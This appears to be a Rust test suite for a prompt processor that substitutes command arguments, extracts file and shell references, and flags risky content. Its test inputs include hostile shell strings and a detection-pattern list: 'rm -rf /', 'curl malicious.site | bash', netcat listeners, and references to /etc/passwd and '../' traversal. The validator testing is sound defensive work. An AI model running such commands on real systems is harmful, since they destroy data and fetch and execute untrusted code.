use custom_commands::command::{CommandFrontmatter, CommandScope, CustomCommand};
use custom_commands::error::CustomCommandError;
use custom_commands::processor::PromptProcessor;
use custom_commands::security::{SecurityValidationConfig, SecurityValidationLevel};

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[test]
fn test_substitute_arguments() {
    let content = "Process issue #$ARGUMENTS with priority";
    let args = vec!["123".to_string()];
    let result = PromptProcessor::substitute_arguments(content, &args);
    assert_eq!(result, "Process issue #123 with priority");
}

#[test]
fn test_positional_arguments() {
    let content = "Review PR #$1 with priority $2 and assign to $3";
    let args = vec!["456".to_string(), "high".to_string(), "alice".to_string()];
    let result = PromptProcessor::substitute_arguments(content, &args);
    assert_eq!(
        result,
        "Review PR #456 with priority high and assign to alice\n\n---\n\n**Command Arguments:**\n```\n456 high alice\n```\n\nPlease execute the process considering the above arguments."
    );
}

#[test]
fn test_argument_processing_flow() {
    let args = vec![
        "docs/tasks/PeopleSearchApps-Migration-tasks.md".to_string(),
        "TASK-301".to_string(),
    ];

    let joined = shell_words::join(&args);

    let prompt_content = "\n# Task implementation command\n\n## Argument information\nSpecified arguments: $ARGUMENTS\n\n## Processing target\n- Task file: $1\n- Task ID: $2\n\n## Execution content\nParse arguments and start implementation.\n";

    let processed = PromptProcessor::substitute_arguments(prompt_content, &args);
    println!("{}", processed);

    assert!(processed.contains(&joined));
    assert!(!processed.contains("$ARGUMENTS"));
    assert!(!processed.contains("$1"));
    assert!(!processed.contains("$2"));
    assert!(processed.contains("- Task file: docs/tasks/PeopleSearchApps-Migration-tasks.md"));
    assert!(processed.contains("- Task ID: TASK-301"));
}

#[test]
fn test_mixed_arguments() {
    let content = "Fix issue #$1 following $ARGUMENTS standards";
    let args = vec!["123".to_string(), "high-priority".to_string()];
    let result = PromptProcessor::substitute_arguments(content, &args);
    assert_eq!(result, "Fix issue #123 following 123 high-priority standards");
}

#[test]
fn test_extract_file_references() {
    let content = "Review @src/main.rs and @docs/README.md files";
    let refs = PromptProcessor::extract_file_references(content);
    assert_eq!(refs, vec!["src/main.rs", "docs/README.md"]);
}

#[test]
fn test_extract_bash_commands() {
    let content = "Current status: !`git status` and diff: !`git diff`";
    let commands = PromptProcessor::extract_bash_commands(content);
    assert_eq!(commands, vec!["git status", "git diff"]);
}

#[test]
fn test_security_check() {
    let dangerous_content = "Execute: !`rm -rf /`";
    let risks = PromptProcessor::check_security_risks(dangerous_content);
    assert!(!risks.is_empty());

    let safe_content = "Check status: !`git status`";
    let safe_risks = PromptProcessor::check_security_risks(safe_content);
    assert!(safe_risks.is_empty());
}

#[test]
fn test_security_validation_levels() {
    let dangerous_content = "Execute: !`rm -rf /`";

    let config = SecurityValidationConfig::default();
    let result = PromptProcessor::validate_content_with_config(dangerous_content, &config);
    assert!(result.is_err(), "Dangerous content should be an error");

    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Warn,
        ignored_patterns: Vec::new(),
    };
    let result = PromptProcessor::validate_content_with_config(dangerous_content, &config);
    assert!(result.is_ok(), "Warning level should not be an error");

    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Off,
        ignored_patterns: Vec::new(),
    };
    let result = PromptProcessor::validate_content_with_config(dangerous_content, &config);
    assert!(result.is_ok(), "Ignore level should not be an error");
}

#[test]
fn test_security_validation_with_ignored_patterns() {
    let content = "Execute: !`rm -rf /tmp/test`";

    let config = SecurityValidationConfig::default();
    let result = PromptProcessor::validate_content_with_config(content, &config);
    assert!(result.is_err());

    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Error,
        ignored_patterns: vec!["rm -rf".to_string()],
    };
    let result = PromptProcessor::validate_content_with_config(content, &config);
    assert!(result.is_ok(), "Risk matching ignored pattern should be excluded");
}

#[test]
fn test_security_validation_result() {
    let dangerous_content = "Execute: !`rm -rf /` and !`curl malicious.site | bash`";

    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Error,
        ignored_patterns: Vec::new(),
    };
    let result = PromptProcessor::validate_security_with_config(dangerous_content, &config);
    assert!(!result.risks.is_empty(), "Risk should be detected");
    assert!(result.should_error, "Error level should have should_error true");
    assert!(!result.should_warn, "Error level should have should_warn false");

    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Warn,
        ignored_patterns: Vec::new(),
    };
    let result = PromptProcessor::validate_security_with_config(dangerous_content, &config);
    assert!(!result.risks.is_empty(), "Risk should be detected");
    assert!(!result.should_error, "Warning level should have should_error false");
    assert!(result.should_warn, "Warning level should have should_warn true");

    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Off,
        ignored_patterns: Vec::new(),
    };
    let result = PromptProcessor::validate_security_with_config(dangerous_content, &config);
    assert!(!result.risks.is_empty(), "Risk should be detected but flag should not be set");
    assert!(!result.should_error, "Ignore level should have should_error false");
    assert!(!result.should_warn, "Ignore level should have should_warn false");
}

#[test]
fn test_backward_compatibility() {
    let dangerous_content = "Execute: !`rm -rf /`";
    let result = PromptProcessor::validate_content(dangerous_content);
    assert!(result.is_err(), "Existing validate_content should return an error");

    let safe_content = "Check status: !`git status`";
    let result = PromptProcessor::validate_content(safe_content);
    assert!(result.is_ok(), "Safe content should not be an error");
}

#[test]
fn test_auto_argument_append() {
    let args = vec![
        "docs/tasks/PeopleSearchApps-Migration-tasks.md".to_string(),
        "TASK-301".to_string(),
    ];

    let content_with_placeholder = "# Task implementation\n\nSpecified arguments: $ARGUMENTS\n\nStart processing.";
    let result1 = PromptProcessor::substitute_arguments(content_with_placeholder, &args);
    println!("{}", result1);
    assert!(result1.contains("docs/tasks/PeopleSearchApps-Migration-tasks.md TASK-301"));
    assert!(!result1.contains("$ARGUMENTS"));
    assert!(!result1.contains("**Command Arguments:**"));

    let content_without_placeholder = "# Task implementation command\n\n## Purpose\nSplit tasks to implement sequentially.\n\n## Execution content\n1. Select tasks\n2. Check dependencies\n3. Execute implementation process";
    let result2 = PromptProcessor::substitute_arguments(content_without_placeholder, &args);
    println!("{}", result2);
    assert!(result2.contains("# Task implementation command"));
    assert!(result2.contains("**Command Arguments:**"));
    assert!(result2.contains("docs/tasks/PeopleSearchApps-Migration-tasks.md TASK-301"));
    assert!(result2.contains("Please execute the process considering the above arguments."));

    let empty_args: Vec<String> = vec![];
    let result3 = PromptProcessor::substitute_arguments(content_without_placeholder, &empty_args);
    println!("{}", result3);
    assert_eq!(result3, content_without_placeholder);
    assert!(!result3.contains("**Command Arguments:**"));
}

#[test]
fn test_frontmatter_in_prompt() {
    let frontmatter = CommandFrontmatter {
        description: Some("Test implementation command".to_string()),
        argument_hint: Some("<task-file> <task-id>".to_string()),
        allowed_tools: Some(vec!["fs_read".to_string()]),
        model: Some("sonnet-3.5".to_string()),
        phase: None,
        dependencies: None,
        output_format: None,
    };

    let command = CustomCommand {
        name: "test-command".to_string(),
        content: "# Test command\n\nArguments: $ARGUMENTS\n\nStart processing.".to_string(),
        frontmatter: Some(frontmatter),
        scope: CommandScope::Global,
        file_path: "/test/command.md".to_string(),
        namespace: None,
    };

    let args = vec!["file.md".to_string(), "TASK-001".to_string()];
    let processed_content = PromptProcessor::substitute_arguments(&command.content, &args);

    assert!(!processed_content.contains("Test implementation command"));
    assert!(!processed_content.contains("<task-file> <task-id>"));
    assert!(!processed_content.contains("fs_read"));
    assert!(processed_content.contains("file.md TASK-001"));
    assert!(processed_content.contains("# Test command"));
}

#[test]
fn test_validate_bash_permissions() {
    let allowed_tools = vec![
        "Bash(git add:*)".to_string(),
        "Bash(git status:*)".to_string(),
        "Bash(git commit:*)".to_string(),
    ];

    assert!(PromptProcessor::validate_bash_permissions("git add .", &allowed_tools));
    assert!(PromptProcessor::validate_bash_permissions("git status", &allowed_tools));
    assert!(PromptProcessor::validate_bash_permissions(
        "git commit -m 'test'",
        &allowed_tools
    ));

    assert!(!PromptProcessor::validate_bash_permissions("rm -rf /", &allowed_tools));
    assert!(!PromptProcessor::validate_bash_permissions("git push", &allowed_tools));

    let all_bash = vec!["Bash".to_string()];
    assert!(PromptProcessor::validate_bash_permissions("any command", &all_bash));

    let no_bash = vec!["fs_read".to_string()];
    assert!(!PromptProcessor::validate_bash_permissions("git status", &no_bash));
}

#[test]
fn test_detect_thinking_keywords() {
    let content_with_thinking = "Please think through this problem step by step";
    assert!(PromptProcessor::detect_thinking_keywords(content_with_thinking));

    let content_with_reasoning = "Let's analyze carefully and reason about the solution";
    assert!(PromptProcessor::detect_thinking_keywords(content_with_reasoning));

    let content_without_thinking = "Just execute this simple command";
    assert!(!PromptProcessor::detect_thinking_keywords(content_without_thinking));
}

#[test]
fn test_file_reference_extraction() {
    let content1 = "Please check @config.yaml for settings";
    let refs1 = PromptProcessor::extract_file_references(content1);
    assert_eq!(refs1, vec!["config.yaml"]);

    let content2 = "@README.md contains important information";
    let refs2 = PromptProcessor::extract_file_references(content2);
    assert_eq!(refs2, vec!["README.md"]);

    let content3 = "Check @src/main.rs and @tests/unit.rs for examples";
    let refs3 = PromptProcessor::extract_file_references(content3);
    assert_eq!(refs3, vec!["src/main.rs", "tests/unit.rs"]);

    let content4 = "Contact admin@example.com or test@example.com for help";
    let refs4 = PromptProcessor::extract_file_references(content4);
    assert_eq!(refs4, Vec::<String>::new());

    let content5 = "Email test@example.com about @config/settings.json";
    let refs5 = PromptProcessor::extract_file_references(content5);
    assert_eq!(refs5, vec!["config/settings.json"]);

    let content6 = "See '@data.csv' for example data";
    let refs6 = PromptProcessor::extract_file_references(content6);
    assert_eq!(refs6, vec!["data.csv"]);
}

#[test]
fn substitute_without_arguments_clears_every_placeholder() {
    let result = PromptProcessor::substitute_arguments("a $1 b $ARGUMENTS c $10 d $2", &[]);
    assert_eq!(result, "a  b  c 0 d ");
}

#[test]
fn substitute_without_arguments_leaves_placeholders_above_ten() {
    let result = PromptProcessor::substitute_arguments("x $11 y", &[]);
    assert_eq!(result, "x 1 y");
}

#[test]
fn substitute_appends_exact_block_when_placeholder_is_absent() {
    let result = PromptProcessor::substitute_arguments("Body with $1", &strings(&["one", "two"]));
    assert_eq!(
        result,
        "Body with one\n\n---\n\n**Command Arguments:**\n```\none two\n```\n\nPlease execute the process considering the above arguments."
    );
}

#[test]
fn substitute_quotes_arguments_for_the_shell() {
    let result = PromptProcessor::substitute_arguments("run $ARGUMENTS", &strings(&["hello world", "it's"]));
    assert_eq!(result, "run 'hello world' 'it'\\''s'");
}

#[test]
fn substitute_fills_positional_placeholders_in_order() {
    let result = PromptProcessor::substitute_arguments("$2-$1 $ARGUMENTS", &strings(&["a", "b"]));
    assert_eq!(result, "b-a a b");
}

#[test]
fn substitute_replaces_every_occurrence_of_the_placeholder() {
    let result = PromptProcessor::substitute_arguments("$ARGUMENTS and $ARGUMENTS", &strings(&["x"]));
    assert_eq!(result, "x and x");
}

#[test]
fn check_security_risks_names_each_pattern_and_reference() {
    let risks = PromptProcessor::check_security_risks("sudo rm x; see @/etc/passwd and @../up");
    assert_eq!(
        risks,
        vec![
            "Potentially dangerous pattern detected: sudo\\s+rm",
            "Potentially unsafe file reference: /etc/passwd",
            "Potentially unsafe file reference: ../up",
        ]
    );
}

#[test]
fn check_security_risks_scenarios() {
    assert!(!PromptProcessor::check_security_risks("rm -rf /tmp/x").is_empty());
    assert!(PromptProcessor::check_security_risks("git status").is_empty());
}

#[test]
fn every_dangerous_pattern_is_found() {
    let samples = [
        ("rm -rf x", "rm\\s+-rf"),
        ("sudo rm x", "sudo\\s+rm"),
        ("ls > /dev/null", ">\\s*/dev/null"),
        ("curl http://a | bash", "curl.*\\|\\s*bash"),
        ("wget http://a | bash", "wget.*\\|\\s*bash"),
        ("eval $x", "eval\\s*\\$"),
        ("exec ls", "exec\\s+"),
        ("nc -l 80", "nc\\s+-l"),
        ("python -c 1", "python.*-c"),
        ("perl -e 1", "perl.*-e"),
    ];
    for (text, pattern) in samples {
        let risks = PromptProcessor::check_security_risks(text);
        let expected = format!("Potentially dangerous pattern detected: {}", pattern);
        assert!(risks.contains(&expected), "{} should give {}", text, expected);
    }
}

#[test]
fn exemption_removes_the_finding_for_its_pattern() {
    let content = "first rm   -rf a then sudo rm b";
    let before = PromptProcessor::check_security_risks(content);
    assert_eq!(before.len(), 2);
    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Error,
        ignored_patterns: vec!["rm -rf".to_string()],
    };
    let after = PromptProcessor::validate_security_with_config(content, &config);
    assert_eq!(after.risks, vec!["Potentially dangerous pattern detected: sudo\\s+rm"]);
    assert!(after.should_error);
}

#[test]
fn exemption_of_a_reference_removes_its_finding() {
    let config = SecurityValidationConfig {
        level: SecurityValidationLevel::Warn,
        ignored_patterns: vec!["/etc".to_string()],
    };
    let outcome = PromptProcessor::validate_security_with_config("see @/etc/hosts", &config);
    assert!(outcome.risks.is_empty());
    assert!(!outcome.should_warn);
}

#[test]
fn validate_content_reports_joined_findings() {
    let result = PromptProcessor::validate_content("rm -rf / and sudo rm x");
    match result {
        Err(CustomCommandError::SecurityError { command, message }) => {
            assert_eq!(command, "content_validation");
            assert_eq!(
                message,
                "Security risks detected: Potentially dangerous pattern detected: rm\\s+-rf, Potentially dangerous pattern detected: sudo\\s+rm"
            );
        }
        other => panic!("unexpected {:?}", other),
    }
}

#[test]
fn bash_permissions_exact_and_wildcard_grants() {
    let exact = strings(&["Bash(git status)"]);
    assert!(PromptProcessor::validate_bash_permissions("git status", &exact));
    assert!(!PromptProcessor::validate_bash_permissions("git status -s", &exact));
    let star = strings(&["Bash(*)"]);
    assert!(PromptProcessor::validate_bash_permissions("anything", &star));
    let empty: Vec<String> = Vec::new();
    assert!(!PromptProcessor::validate_bash_permissions("git status", &empty));
}

#[test]
fn thinking_keywords_are_found_in_any_case() {
    assert!(PromptProcessor::detect_thinking_keywords("Please THINK THROUGH this"));
    assert!(PromptProcessor::detect_thinking_keywords("Break Down the task"));
    assert!(!PromptProcessor::detect_thinking_keywords("thinkthrough"));
}

#[test]
fn bash_commands_need_a_command_between_backticks() {
    assert_eq!(PromptProcessor::extract_bash_commands("!`` and `ls`"), Vec::<String>::new());
    assert_eq!(PromptProcessor::extract_bash_commands("x !`echo ok` y"), vec!["echo ok"]);
}

#[test]
fn captured_group_takes_the_group_where_it_took_part() {
    let matches = vec![
        vec![Some("@a".to_string()), Some("a".to_string())],
        vec![Some("x".to_string()), None],
        vec![Some("y".to_string())],
        vec![Some("@b".to_string()), Some("b".to_string())],
    ];
    assert_eq!(PromptProcessor::captured_group(&matches, 1), vec!["a", "b"]);
    assert_eq!(PromptProcessor::captured_group(&matches, 0), vec!["@a", "x", "y", "@b"]);
    assert!(PromptProcessor::captured_group(&matches, 2).is_empty());
}

#[test]
fn findings_from_goes_by_the_matches_given() {
    let mut matched = vec![Some(false); 10];
    matched[0] = Some(true);
    matched[6] = Some(true);
    matched[9] = None;
    let references = strings(&["ok.txt", "/abs", "a/../b"]);
    let risks = PromptProcessor::findings_from(&matched, &references, &Vec::new());
    assert_eq!(
        risks,
        vec![
            "Potentially dangerous pattern detected: rm\\s+-rf",
            "Potentially dangerous pattern detected: exec\\s+",
            "Potentially unsafe file reference: /abs",
            "Potentially unsafe file reference: a/../b",
        ]
    );
    let exempted = PromptProcessor::findings_from(&matched, &references, &strings(&["exec ", "/abs"]));
    assert_eq!(
        exempted,
        vec![
            "Potentially dangerous pattern detected: rm\\s+-rf",
            "Potentially unsafe file reference: a/../b",
        ]
    );
    let short = PromptProcessor::findings_from(&vec![Some(true)], &Vec::new(), &Vec::new());
    assert_eq!(short, vec!["Potentially dangerous pattern detected: rm\\s+-rf"]);
    let all_exempt = PromptProcessor::findings_from(&matched, &references, &strings(&[""]));
    assert!(all_exempt.is_empty());
}

#[test]
fn outcome_follows_the_level() {
    let some = || strings(&["finding"]);
    let enforce = PromptProcessor::outcome_for(some(), SecurityValidationLevel::Error);
    assert!(enforce.should_error && !enforce.should_warn);
    let warn = PromptProcessor::outcome_for(some(), SecurityValidationLevel::Warn);
    assert!(warn.should_warn && !warn.should_error);
    let off = PromptProcessor::outcome_for(some(), SecurityValidationLevel::Off);
    assert!(!off.should_warn && !off.should_error);
    assert_eq!(off.risks, vec!["finding"]);
    let none = PromptProcessor::outcome_for(Vec::new(), SecurityValidationLevel::Error);
    assert!(!none.should_warn && !none.should_error);
    assert!(PromptProcessor::verdict_of(&warn).is_ok());
    match PromptProcessor::verdict_of(&enforce) {
        Err(CustomCommandError::SecurityError { command, message }) => {
            assert_eq!(command, "content_validation");
            assert_eq!(message, "Security risks detected: finding");
        }
        other => panic!("unexpected {:?}", other),
    }
}

#[test]
fn substitute_rendered_uses_the_rendering_given() {
    let args = strings(&["a", "b"]);
    assert_eq!(PromptProcessor::substitute_rendered("x $ARGUMENTS y $1", &args, "<R>"), "x <R> y a");
    assert_eq!(
        PromptProcessor::substitute_rendered("plain", &args, "<R>"),
        "plain\n\n---\n\n**Command Arguments:**\n```\n<R>\n```\n\nPlease execute the process considering the above arguments."
    );
    assert_eq!(PromptProcessor::substitute_rendered("x $ARGUMENTS y $1", &[], "<R>"), "x  y ");
    assert!(PromptProcessor::substitute_rendered("only $2", &args, "<R>").starts_with("only b\n\n---"));
}

#[test]
fn thinking_keyword_is_looked_for_as_given() {
    assert!(PromptProcessor::has_thinking_keyword("now think through it"));
    assert!(!PromptProcessor::has_thinking_keyword("Think Through"));
    assert!(!PromptProcessor::has_thinking_keyword(""));
}
